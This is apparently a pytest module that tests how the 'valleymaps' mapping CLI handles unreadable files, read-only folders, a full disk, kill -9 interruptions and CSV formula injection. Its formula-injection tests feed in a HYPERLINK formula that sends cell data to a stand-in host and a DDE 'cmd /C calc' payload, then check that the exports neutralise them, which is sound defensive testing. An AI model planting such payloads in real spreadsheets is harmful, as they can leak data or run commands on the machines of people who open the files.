"""Hostile environment (issue 10): unreadable inputs, read-only folders, a full disk, kill -9,
formula injection in every CSV people open, and the fetch refusals the references call for.

Faults use real processes: the command runs as a child process that is killed with SIGKILL,
that writes into a small tmpfs filled to the brim, or that runs without the privileges that let
root ignore file permissions. Running as root, "unprivileged" means the child drops the
capabilities CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH and CAP_FOWNER (``setpriv``): it then obeys
the permission bits like any user. (``runuser -u nobody`` cannot be used here: the interpreter
lives under ``/root``, which ``nobody`` may not enter.) As a non-root user the permissions apply
anyway. Cases that need what the machine refuses (``mount``, ``setpriv``) are skipped with the
reason.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import select
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import pandas as pd
import pytest

import valleymaps
from fetch_server import FileServer
from hostile_harness import Outcome, expect_refusal, expect_success, run_cli, snapshot
from project_files import BAKERSFIELD, FRESNO, MODESTO, VISALIA, row, write_csv
from valleymaps.io.atomic import is_process_alive

SRC = Path(valleymaps.__file__).resolve().parents[1]
TESTS = Path(__file__).resolve().parents[1]
_DROP = "-dac_override,-dac_read_search,-fowner"
_LEFTOVER_PATTERNS = (".maps-build-*", ".suitability-atlas-*", ".maps-old-*")


# --- running the command as a real process ---------------------------------------------------


@pytest.fixture(autouse=True)
def _one_process_builds(monkeypatch: pytest.MonkeyPatch) -> None:
    """In-process builds draw without forked workers: forking the test process, which has run
    and killed many children, hung once in the worker pool (see the report of issue 10)."""
    monkeypatch.setattr("valleymaps.settings.BUILD_WORKERS", 1)


def _child_env() -> dict[str, str]:
    env = os.environ.copy()
    env["PYTHONPATH"] = os.pathsep.join([str(SRC), str(TESTS)])
    env.pop("VALLEYMAPS_DB_URL", None)
    return env


def _unprivileged_prefix() -> list[str]:
    """How to start a process that obeys file permissions (or skip the test)."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: cannot start a process that obeys permissions")
    return [setpriv, f"--inh-caps={_DROP}", f"--bounding-set={_DROP}", "--"]


@pytest.fixture(scope="session")
def unprivileged() -> list[str]:
    """The command prefix of an unprivileged child, checked once: it may not read a 000 file."""
    prefix = _unprivileged_prefix()
    probe = Path(os.environ.get("TMPDIR", "/tmp")) / f"valleymaps-probe-{os.getpid()}"
    probe.write_text("secret", encoding="utf-8")
    probe.chmod(0)
    try:
        done = subprocess.run([*prefix, sys.executable, "-c", f"open({str(probe)!r}).read()"],
                              capture_output=True, timeout=60)
    finally:
        probe.chmod(0o600)
        probe.unlink()
    if done.returncode == 0:
        pytest.skip("this machine lets the child read a mode-000 file: permissions cannot be tested")
    return prefix


def run_process(workspace: Path, args: Sequence[str], *, prefix: Sequence[str] = (),
                timeout: float = 600) -> Outcome:
    """Run ``valleymaps ARGS`` as a child process in ``workspace``."""
    done = subprocess.run([*prefix, sys.executable, "-m", "valleymaps", *args], cwd=workspace,
                          env=_child_env(), capture_output=True, text=True, timeout=timeout)
    return Outcome(done.returncode, done.stdout + done.stderr, None)


def assert_clear_refusal(outcome: Outcome, *keywords: str) -> None:
    """Exit 1, no traceback, the keywords in the message."""
    assert "Traceback" not in outcome.output, outcome.output
    assert outcome.exit_code == 1, outcome.output
    text = outcome.output.lower()
    missing = [k for k in keywords if k.lower() not in text]
    assert not missing, f"message lacks {missing}:\n{outcome.output}"


def leftovers(workspace: Path) -> list[str]:
    """Temporaries of valleymaps anywhere in the workspace."""
    found = [p for pattern in _LEFTOVER_PATTERNS for p in (workspace / "outputs").glob(pattern)]
    found += list(workspace.rglob(".*.tmp-*"))
    return sorted(str(p.relative_to(workspace)) for p in found)


# --- fixtures of inputs -------------------------------------------------------------------------


def projects_csv(path: Path, names: Sequence[str] = ("Road A", "Road B")) -> Path:
    places = [FRESNO, BAKERSFIELD, MODESTO, VISALIA]
    return write_csv(path, [row(f"P{i}", name, at=places[i % 4]) for i, name in enumerate(names)])


def jobs_csv(path: Path, rows: int = 2) -> Path:
    lines = ["geoid,naics,year,employment"]
    naics = [f"{n}" for n in range(311111, 311111 + rows)]
    lines += [f"06019,{code},2021,{10 + i}" for i, code in enumerate(naics)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def readonly(request: pytest.FixtureRequest) -> Iterator[list[Path]]:
    """Folders made read-only by a test; made writable again afterwards (for tmp_path cleanup)."""
    folders: list[Path] = []
    yield folders
    for folder in folders:
        folder.chmod(0o755)


# --- unreadable input files -----------------------------------------------------------------


@pytest.mark.parametrize(("args", "name"), [
    (["import", "projects", "{file}"], "projects.csv"),
    (["import", "employment", "{file}", "--format", "csv"], "jobs.csv"),
    (["import", "tracts", "{file}"], "tracts.geojson"),
    (["import", "flows", "{file}", "--format", "acs-county"], "flows.csv"),
    (["import", "metros", "{file}"], "list1_2023.csv"),
])
def test_unreadable_input_file_is_one_clear_message(
    built_workspace: Path, unprivileged: list[str], args: list[str], name: str
) -> None:
    source = built_workspace.parent / name
    source.write_text("anything\n", encoding="utf-8")
    source.chmod(0)
    before = snapshot(built_workspace)

    outcome = run_process(built_workspace, [a.format(file=source) for a in args], prefix=unprivileged)

    assert_clear_refusal(outcome, f"cannot read {source}", "permission denied", "chmod u+r")
    assert snapshot(built_workspace) == before


# --- read-only folders ----------------------------------------------------------------------


def test_build_into_read_only_outputs_keeps_the_atlas(
    built_workspace: Path, unprivileged: list[str], readonly: list[Path]
) -> None:
    outputs = built_workspace / "outputs"
    before = snapshot(built_workspace)
    outputs.chmod(0o555)
    readonly.append(outputs)

    outcome = run_process(built_workspace, ["build", "--no-png"], prefix=unprivileged)

    assert_clear_refusal(outcome, f"cannot write to {outputs}", "read-only", "chmod u+w",
                         "choose another folder")
    assert snapshot(built_workspace) == before


@pytest.mark.parametrize(("folder", "args"), [
    ("data/geo", ["import", "projects", "{projects}"]),
    ("outputs/reports", ["import", "projects", "{projects}"]),
    ("data/econ/employment", ["import", "employment", "{jobs}", "--format", "csv"]),
    ("data/geo", ["import", "tracts", "{tracts}"]),
])
def test_import_into_read_only_folder_is_one_clear_message(
    built_workspace: Path, unprivileged: list[str], readonly: list[Path], folder: str, args: list[str]
) -> None:
    from workspace_files import write_square_tracts

    files = {
        "projects": projects_csv(built_workspace.parent / "projects.csv"),
        "jobs": jobs_csv(built_workspace.parent / "jobs.csv"),
        "tracts": built_workspace.parent / "tracts.geojson",
    }
    write_square_tracts(files["tracts"], ["06019", "06029"])
    target = built_workspace / folder
    target.mkdir(parents=True, exist_ok=True)
    before = snapshot(built_workspace)
    target.chmod(0o555)
    readonly.append(target)

    outcome = run_process(built_workspace, [a.format(**files) for a in args], prefix=unprivileged)

    assert_clear_refusal(outcome, f"cannot write to {target}", "read-only", "chmod u+w")
    after = snapshot(built_workspace)
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    # an import report written before the store refused is a whole file, not a half one
    assert all(k.startswith("outputs/reports/") for k in changed), changed


# --- a full disk ----------------------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """An 8 MB tmpfs mounted for the test (skipped where mounting is refused)."""
    mount = tmp_path / "small-disk"
    mount.mkdir()
    if shutil.which("mount") is None:
        pytest.skip("no mount command")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mount)],
                          capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here: {done.stderr.strip()}")
    try:
        yield mount
    finally:
        if subprocess.run(["umount", str(mount)], capture_output=True).returncode != 0:
            subprocess.run(["umount", "-l", str(mount)], capture_output=True)


def fill(disk: Path, *, leave: int) -> None:
    """Fill ``disk`` so that about ``leave`` bytes stay free."""
    stat = os.statvfs(disk)
    size = stat.f_bavail * stat.f_frsize - leave
    with open(disk / "filler", "wb") as fh:
        chunk = b"\0" * (1 << 16)
        while size > 0:
            size -= fh.write(chunk[: min(len(chunk), size)])


@pytest.mark.parametrize(("args", "leave"), [
    (["build", "--no-png"], 1_000_000),
    (["build"], 3_000_000),
])
def test_build_on_a_full_disk_keeps_the_previous_atlas(
    built_workspace: Path, small_disk: Path, args: list[str], leave: int
) -> None:
    ws = small_disk / "ws"
    shutil.copytree(built_workspace, ws, symlinks=True)
    before = snapshot(ws)
    fill(small_disk, leave=leave)

    outcome = run_process(ws, args)

    assert_clear_refusal(outcome, "no space left on", "free space or choose another folder")
    assert snapshot(ws) == before
    assert leftovers(ws) == []


@pytest.mark.parametrize(("args", "leave", "kept"), [
    (["import", "projects", "{projects}"], 40_000, "data/geo/"),
    (["import", "employment", "{jobs}", "--format", "csv"], 200_000, "data/econ/"),
])
def test_import_on_a_full_disk_keeps_the_previous_data(
    built_workspace: Path, small_disk: Path, tmp_path: Path, args: list[str], leave: int, kept: str
) -> None:
    ws = small_disk / "ws"
    shutil.copytree(built_workspace, ws, symlinks=True)
    first = projects_csv(tmp_path / "first.csv")
    expect_success(ws, ["import", "projects", str(first)])
    files = {
        "projects": projects_csv(tmp_path / "projects.csv", [f"Road {i}" for i in range(2000)]),
        "jobs": jobs_csv(tmp_path / "jobs.csv", rows=20_000),
    }
    before = snapshot(ws)
    fill(small_disk, leave=leave)

    outcome = run_process(ws, [a.format(**files) for a in args])

    assert_clear_refusal(outcome, "no space left on", "free space or choose another folder")
    after = snapshot(ws)
    assert {k: v for k, v in after.items() if k.startswith(kept)} == {
        k: v for k, v in before.items() if k.startswith(kept)}
    assert leftovers(ws) == []


# --- kill -9 ----------------------------------------------------------------------------------

_STALL = """
import importlib, sys, time
target = importlib.import_module("{module}")
for part in "{owner}".split("."):
    target = getattr(target, part) if part else target
original = getattr(target, "{name}")
def stalled(*args, **kwargs):
    {call}
    print("READY", flush=True)
    time.sleep(600)
setattr(target, "{name}", stalled)
from valleymaps.cli import main
sys.argv = ["valleymaps", *sys.argv[1:]]
main()
"""


def start_stalled(workspace: Path, args: Sequence[str], *, module: str, name: str,
                  call_first: bool, owner: str = "") -> subprocess.Popen[str]:
    """Start ``valleymaps ARGS`` with ``module[.owner].name`` replaced by a stall (after calling the
    original when ``call_first``); return once the child has reached it (the child is killed if
    it never does). Use it through ``stalled`` so that the child cannot outlive the test."""
    code = _STALL.format(module=module, owner=owner, name=name,
                         call="original(*args, **kwargs)" if call_first else "pass")
    proc = subprocess.Popen([sys.executable, "-c", code, *args], cwd=workspace, env=_child_env(),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline:
            ready, _, _ = select.select([proc.stdout], [], [], 1.0)
            if ready:
                line = proc.stdout.readline()
                if line.strip() == "READY":
                    return proc
                if line == "" and proc.poll() is not None:
                    break
    except BaseException:  # a timeout or an interrupt while waiting: no child left behind
        end_child(proc)
        raise
    err = end_child(proc)
    raise AssertionError(f"the command never reached the stall:\n{err}")


def end_child(proc: subprocess.Popen[str]) -> str:
    """SIGKILL the child if it still runs and reap it; its standard error."""
    if proc.poll() is None:
        proc.kill()
    _, err = proc.communicate(timeout=60)
    return err or ""


@contextlib.contextmanager
def stalled(workspace: Path, args: Sequence[str], *, module: str, name: str, call_first: bool,
            owner: str = "") -> Iterator[subprocess.Popen[str]]:
    """``start_stalled`` whose child is killed at the end of the block whatever happens in it: a
    failed assertion stays one failure instead of leaving a stalled command (and its workers)
    running into the next test."""
    proc = start_stalled(workspace, args, module=module, name=name, call_first=call_first, owner=owner)
    try:
        yield proc
    finally:
        if proc.returncode is None:
            end_child(proc)


def kill9(proc: subprocess.Popen[str]) -> None:
    proc.send_signal(signal.SIGKILL)
    proc.communicate(timeout=60)
    assert proc.returncode == -signal.SIGKILL


def test_kill_9_during_build_keeps_the_atlas_and_the_next_build_tidies_up(built_workspace: Path) -> None:
    before = snapshot(built_workspace / "outputs" / "maps")
    # stalled inside a suitability profile's scratch folder (each profile runs in its own)
    with stalled(built_workspace, ["build", "--no-png"],
                 module="valleymaps.workflows.suitability_pages", name="target_layer",
                 call_first=False) as proc:
        stale = leftovers(built_workspace)
        assert any(".maps-build-" in p for p in stale) and any(".suitability-atlas-" in p for p in stale)
        pids = {int(re.search(r"-(\d+)-", p).group(1)) for p in stale}  # type: ignore[union-attr]
        assert proc.pid in pids, stale  # the owner's pid is in the name (a section may run in a worker)

        kill9(proc)
    time.sleep(0.5)  # the build's workers die with it (PR_SET_PDEATHSIG)
    assert not any(is_process_alive(pid) for pid in pids)

    assert snapshot(built_workspace / "outputs" / "maps") == before
    assert leftovers(built_workspace) == stale  # nobody tidied up after a kill -9
    expect_success(built_workspace, ["build", "--no-png"])
    assert leftovers(built_workspace) == []


def test_kill_9_during_import_projects_keeps_the_inventory(built_workspace: Path, tmp_path: Path) -> None:
    expect_success(built_workspace, ["import", "projects", str(projects_csv(tmp_path / "first.csv"))])
    gpkg = built_workspace / "data" / "geo" / "projects.gpkg"
    before = gpkg.read_bytes()
    second = projects_csv(tmp_path / "second.csv", ["Bridge 1", "Bridge 2", "Bridge 3"])
    with stalled(built_workspace, ["import", "projects", str(second)],
                 module="valleymaps.projects.store_gpkg", owner="GeoPackageStore",
                 name="_write", call_first=True) as proc:
        stale = leftovers(built_workspace)
        assert [Path(p).name.startswith(f".projects.tmp-{proc.pid}-") for p in stale] == [True], stale

        kill9(proc)

    assert gpkg.read_bytes() == before
    expect_success(built_workspace, ["import", "projects", str(second)], "3 projects in all")
    assert leftovers(built_workspace) == []


def test_kill_9_during_import_employment_keeps_the_dataset(built_workspace: Path, tmp_path: Path) -> None:
    jobs = jobs_csv(tmp_path / "jobs.csv")
    expect_success(built_workspace, ["import", "employment", str(jobs), "--format", "csv"])
    folder = built_workspace / "data" / "econ" / "employment"
    before = snapshot(folder)
    with stalled(built_workspace, ["import", "employment", str(jobs), "--format", "csv",
                                   "--name", "jobs2"],
                 module="valleymaps.io.employment.store", name="write_text_atomic",
                 call_first=False) as proc:
        stale = leftovers(built_workspace)
        assert [Path(p).name.startswith(f".jobs2.tmp-{proc.pid}-") for p in stale] == [True], stale

        kill9(proc)

    assert {k: v for k, v in snapshot(folder).items() if ".tmp-" not in k} == before
    assert not (folder / "jobs2.csv").exists()
    expect_success(built_workspace, ["import", "employment", str(jobs), "--format", "csv", "--name",
                                     "jobs3"])
    assert leftovers(built_workspace) == []


def test_stale_temporaries_of_a_live_process_are_left_alone(tmp_path: Path) -> None:
    from valleymaps.io.atomic import remove_stale_temporaries

    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    try:
        live_dir = tmp_path / f".maps-build-{sleeper.pid}-abc"
        dead_dir = tmp_path / f".maps-build-{dead.pid}-abc"
        dead_file = tmp_path / f".projects.tmp-{dead.pid}-0a1b.gpkg"
        user_file = tmp_path / ".my-notes-old-12"  # not a name valleymaps makes
        for folder in (live_dir, dead_dir):
            folder.mkdir()
        dead_file.write_bytes(b"half")
        user_file.write_text("keep", encoding="utf-8")

        removed = remove_stale_temporaries(tmp_path)

        assert sorted(p.name for p in removed) == sorted([dead_dir.name, dead_file.name])
        assert live_dir.is_dir() and user_file.is_file()
    finally:
        sleeper.kill()
        sleeper.wait()


def test_folder_moved_aside_by_a_killed_swap_is_put_back(tmp_path: Path) -> None:
    from valleymaps.io.atomic import remove_stale_temporaries

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    aside = tmp_path / f".maps-old-{dead.pid}"
    aside.mkdir()
    (aside / "index.html").write_text("<p>previous atlas</p>", encoding="utf-8")

    remove_stale_temporaries(tmp_path)

    assert (tmp_path / "maps" / "index.html").read_text(encoding="utf-8") == "<p>previous atlas</p>"
    assert not aside.exists()


# --- a truncated GeoTIFF as a suitability layer -------------------------------------------------


def test_truncated_geotiff_layer_is_named_with_the_fix(built_workspace: Path, tmp_path: Path) -> None:
    from suitability_files import write_water_raster

    whole = write_water_raster(tmp_path / "whole.tif")
    cut = tmp_path / "groundwater_cut.tif"
    cut.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])

    expect_refusal(built_workspace,
                   ["suitability", "-t", "Paper mills", "--allow-missing", "--resolution", "1000",
                    "--layer", f"groundwater_depth={cut}"],
                   str(cut), "truncated or damaged", "download or export it again")


# --- spreadsheet formula injection --------------------------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
                 "-2+3", "\t=1+1", "\r=1+1"]


def read_cells(path: Path) -> list[dict[str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_neutralised(cells: Sequence[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), repr(cell)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_formulas_in_project_names_are_neutralised_in_every_csv(
    built_workspace: Path, tmp_path: Path
) -> None:
    source = projects_csv(tmp_path / "projects.csv", HOSTILE_NAMES)
    rejected = write_csv(tmp_path / "bad.csv", [row("=1+1", "=2+2", at=(0.0, 0.0))])
    expect_success(built_workspace, ["import", "projects", str(source)])
    run_cli(built_workspace, ["import", "projects", str(rejected)])  # refused; its report is written
    expect_success(built_workspace, ["build", "--no-png"])
    expect_success(built_workspace, ["projects", "export", str(tmp_path / "export.csv")])
    expect_success(built_workspace, ["projects", "summary", "--by", "county", "--out",
                                     str(tmp_path / "summary.csv")])

    tables = built_workspace / "outputs" / "maps" / "tables"
    atlas = read_cells(tables / "projects.csv")
    export = read_cells(tmp_path / "export.csv")
    for rows in (atlas, export):
        # the import trims the tab and the carriage return; what is left is still a formula
        assert sorted(r["name"] for r in rows) == sorted("'" + n.strip() for n in HOSTILE_NAMES)
        assert all(_is_number(r["longitude"]) and float(r["longitude"]) < 0 for r in rows)  # numbers
    reports = list((built_workspace / "outputs" / "reports").glob("*.csv"))
    assert reports
    for path in [*reports, tables / "investment_by_county.csv", tmp_path / "summary.csv"]:
        assert_neutralised([c for r in read_cells(path) for c in r.values() if c])
    assert "'=1+1" in (built_workspace / "outputs" / "reports" / "projects-bad-problems.csv").read_text(
        encoding="utf-8-sig")


def test_formula_in_a_cluster_name_is_neutralised_in_cluster_metrics(built_workspace: Path) -> None:
    clusters = built_workspace / "data" / "econ" / "clusters.toml"
    text = clusters.read_text(encoding="utf-8")
    assert 'name = "Agriculture"' in text
    clusters.write_text(text.replace('name = "Agriculture"', 'name = "=1+1 Agriculture"', 1),
                        encoding="utf-8")

    expect_success(built_workspace, ["build", "--no-png"])

    table = read_cells(built_workspace / "outputs" / "maps" / "tables" / "cluster_metrics.csv")
    assert "'=1+1 Agriculture" in {r["cluster_name"] for r in table}
    assert_neutralised([c for r in table for c in r.values() if c])
    assert any(r["employment"] and float(r["employment"]) > 0 for r in table)  # numbers stay numbers


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("Road", "Road"),
    ("a=b", "a=b"),
])
def test_one_helper_neutralises_text_cells_only(cell: str, written: str) -> None:
    from valleymaps.io.csv_safe import csv_text

    text = csv_text(pd.DataFrame({"text": [cell], "number": [-5]}))
    back = list(csv.reader(io.StringIO(text, newline="")))

    assert back[1] == [written, "-5"]


# --- fetch: what the references say -------------------------------------------------------------


@pytest.fixture
def fetch_env(monkeypatch: pytest.MonkeyPatch) -> Iterator[FileServer]:
    from fetch_server import PROXY_VARIABLES, census_site, source_env

    for name in PROXY_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    files = dict(census_site(2021))
    real_xls = Path("/work/shared/realdata/metros/list1_2020.xls")
    if real_xls.is_file():
        from fetch_server import METROS_PREFIX

        files[f"{METROS_PREFIX}/2020/delineation-files/list1_2020.xls"] = real_xls.read_bytes()
    with FileServer(files) as server:
        for key, value in source_env(server).items():
            monkeypatch.setenv(key, value)
        yield server


@pytest.mark.parametrize("job_type", ["JT04", "JT05"])
def test_fetch_federal_job_types_before_2010_say_they_start_in_2010(
    built_workspace: Path, fetch_env: FileServer, tmp_path: Path, job_type: str
) -> None:
    expect_refusal(built_workspace,
                   ["fetch", "lodes", "--year", "2008", "--job-type", job_type, "--cache-dir",
                    str(tmp_path / "cache")],
                   job_type, "starts in 2010", "2010-2023")
    assert fetch_env.hits_for() == []


def test_fetch_acs_flows_2013_reads_the_time_series_table(
    built_workspace: Path, fetch_env: FileServer, tmp_path: Path
) -> None:
    from fetch_server import ACS_FLOWS_2013_PATH

    expect_success(built_workspace, ["fetch", "acs-flows", "--year", "2013", "--name", "acs_2013",
                                     "--cache-dir", str(tmp_path / "cache")], "2009", "2013")

    assert [h.path for h in fetch_env.hits_for()] == [ACS_FLOWS_2013_PATH]
    cached = tmp_path / "cache" / "acs_flows" / "commuting/tables/time-series/commuting-flows/table1.xlsx"
    assert cached.is_file()
    flows = built_workspace / "data" / "econ" / "flows"
    assert list(flows.glob("acs_2013*"))  # (the workspace bundles an ACS 2009-2013 extract already)


def test_fetch_metros_2020_reads_the_published_xls(
    built_workspace: Path, fetch_env: FileServer, tmp_path: Path
) -> None:
    if not Path("/work/shared/realdata/metros/list1_2020.xls").is_file():
        pytest.skip("the published list1_2020.xls is not on this machine")

    expect_success(built_workspace, ["fetch", "metros", "--year", "2020", "--cache-dir",
                                     str(tmp_path / "cache")], "March 2020")

    table = pd.read_csv(built_workspace / "data" / "geo" / "cbsa_delineation.csv", dtype=str)
    madera = table[table["county_geoid"] == "06039"]
    assert madera["cbsa_code"].tolist() == ["31460"]  # Madera is its own metro area in 2020


def test_delineation_edition_in_capitals_is_read(built_workspace: Path, tmp_path: Path) -> None:
    from lodes_files import write_delineation_xlsx

    path = write_delineation_xlsx(tmp_path / "list1_2023.xlsx", edition="JULY 2023")

    expect_success(built_workspace, ["import", "metros", str(path)], "(July 2023)")


def test_fetch_acs_flows_of_a_year_without_a_table_lists_2013(
    built_workspace: Path, fetch_env: FileServer, tmp_path: Path
) -> None:
    expect_refusal(built_workspace, ["fetch", "acs-flows", "--year", "2012", "--cache-dir",
                                     str(tmp_path / "cache")],
                   "2012", "2013 (2009-2013)")
